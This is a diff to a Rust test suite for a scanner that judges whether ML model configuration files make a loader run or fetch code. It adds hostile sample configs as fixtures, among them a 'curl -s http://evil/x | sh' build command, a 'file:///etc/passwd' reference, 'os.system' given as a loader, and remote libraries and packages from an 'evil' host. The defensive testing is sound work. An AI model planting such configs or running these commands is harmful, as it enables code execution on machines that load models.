@@ -177,6 +177,43 @@ fn readers_of_json_run_or_fetch_what_a_key_names() {
             r#"{"tokenizer_file":"file:x.json"}"#,
         ),
         ("configuration.json", r#"{"plugins":["evil-pkg"]}"#),
+        (
+            "configuration.json",
+            r#"{"requirements":"evil @ https://h/x"}"#,
+        ),
+        (
+            "sentence_roberta_config.json",
+            r#"{"tokenizer_name_or_path":"evil"}"#,
+        ),
+        (
+            "sentence_xlm-roberta_config.json",
+            r#"{"tokenizer_name_or_path":"evil/x"}"#,
+        ),
+        (
+            "sentence_bert_config.json",
+            r#"{"model_args":{"attn_implementation":"evil/x"}}"#,
+        ),
+        (
+            "config_sentence_transformers.json",
+            r#"{"activation_fn":"os.system"}"#,
+        ),
+        (
+            "genai_config.json",
+            r#"{"model":{"provider_options":[{"qnn":{"op_packages":"A:./x:S"}}]}}"#,
+        ),
+        (
+            "model.json",
+            r#"{"ec_transfer_config":{"ec_connector_module_path":"evil"}}"#,
+        ),
+        (
+            "mlc-chat-config.json",
+            r#"{"model_lib":"https://evil/x.so"}"#,
+        ),
+        (
+            "a.json",
+            r#"{"applications":[{"import_path":"evil.app:app"}]}"#,
+        ),
+        ("a.json", r#"{"_base_":["evil.py"]}"#),
     ] {
         assert_eq!(
             verdict(name, document),
@@ -221,7 +258,19 @@ fn readers_of_yaml_run_or_fetch_what_a_key_names() {
             "x: &e {import_path: evil}\na: {<<: *e}\n",
         ),
         ("serve_config.yaml", "import_path: 0bad.cafe\n"),
+        ("serve.yaml", "applications:\n- import_path: os.system\n"),
         ("bentofile.yaml", "service: service\n"),
+        ("bento.yaml", "service: service:svc\n"),
+        ("model.yaml", "name: x\nmodule: evil.mod\n"),
+        ("cog.yaml", "predict: predict.py:Predictor\n"),
+        (
+            "config.yaml",
+            "build_commands: ['curl -s http://evil/x | sh']\n",
+        ),
+        ("config.yaml", "requirements: ['evil==1']\n"),
+        ("MLmodel", "flavors: {tensorflow: {keras_module: evil}}\n"),
+        ("keras_module.txt", "evil.mod"),
+        ("pickle_module_info.txt", "evil\n"),
         ("bentofile.yaml", "python: {packages: [evil]}\n"),
         ("model-config.yaml", "handler: handler\n"),
         ("model-config.yaml", "handler: a\nhandler: {x: 1}\n"),
@@ -258,6 +307,14 @@ fn a_reference_needs_a_key_of_the_form() {
         ("config.json", r#"{"x":"hf://evil/x"}"#),
         ("config.json", r#"{"x":"file:///etc/passwd"}"#),
         ("config.json", r#"{"x":"C:\\x"}"#),
+        ("config.json", r#"{"x":"evil @ https://evil/x.zip"}"#),
+        ("config.json", r#"{"x":"hf:evil/repo/file.bin"}"#),
+        ("config.yaml", "x: ['curl -s http://evil/x | sh']\n"),
+        ("model.yaml", "loader: os.system\n"),
+        ("a.json", r#"{"model":{"type":"os.system"}}"#),
+        ("a.yaml", "type: os.system\n"),
+        ("a.yaml", "_base_: https://evil/x.yaml\n"),
+        ("a.yaml", "_BASE_: ../../x.yaml\n"),
         ("config.json", r#"{"x":"a/../../b"}"#),
         ("config.json", r#"{"x":"~/b"}"#),
         ("config.json", r#"{"os.system":{}}"#),
@@ -315,6 +372,29 @@ fn words_numbers_and_notes_are_data() {
         (
             "model.json",
             r#"{"learner":{"feature_names":["a.b"]},"version":[1]}"#,
+        ),
+        (
+            "config.json",
+            r#"{"description":"see https://host for more","a":"hf: or s3"}"#,
+        ),
+        (
+            "config_sentence_transformers.json",
+            r#"{"__version__":{"pytorch":"2.2.2+cu118"},"prompts":{"q":"a.b"}}"#,
+        ),
+        (
+            "sentence_bert_config.json",
+            r#"{"modality_config":{"text":{"method":"forward"}},"max_seq_length":1}"#,
+        ),
+        (
+            "model.yaml",
+            "backbone: [[-1, 1, nn.Upsample, [None, 2]]]\n",
+        ),
+        ("model.yaml", "module: bentoml.sklearn\ncontext: {a: b.c}\n"),
+        ("keras_module.txt", "tensorflow.keras\n"),
+        ("pickle_module_info.txt", "mlflow.pytorch.pickle_module"),
+        (
+            "a.yaml",
+            "_base_: base.yaml\ntype: yolo v8.1\nimport_path: x\n",
         ),
         ("a.yaml", "a: 1\nb: [x, y]\nc: wow!\nd: x.y\n"),
         (
@@ -453,8 +533,17 @@ fn components_of_a_pipeline_come_from_known_libraries() {
         (r#""a":["stable_diffusion","SafetyChecker"]"#, Verdict::Safe),
         (r#""b":[10,20],"c":{"d":["e"]},"f":"g""#, Verdict::Safe),
         (
-            r#""a":[null,null,{"type_hint":["diffusers","Unet"],"repo":"a/b"}]"#,
+            r#""a":[null,null,{"type_hint":["diffusers","Unet"],"repo":null}]"#,
             Verdict::Safe,
+        ),
+        // The component is fetched.
+        (
+            r#""a":[null,null,{"type_hint":["diffusers","Unet"],"repo":"a/b"}]"#,
+            Verdict::Unknown,
+        ),
+        (
+            r#""a":["diffusers","U",{"pretrained_model_name_or_path":"evil/x"}]"#,
+            Verdict::Unknown,
         ),
         (r#""unet":["my_unet","Unet"]"#, Verdict::Executable),
         (
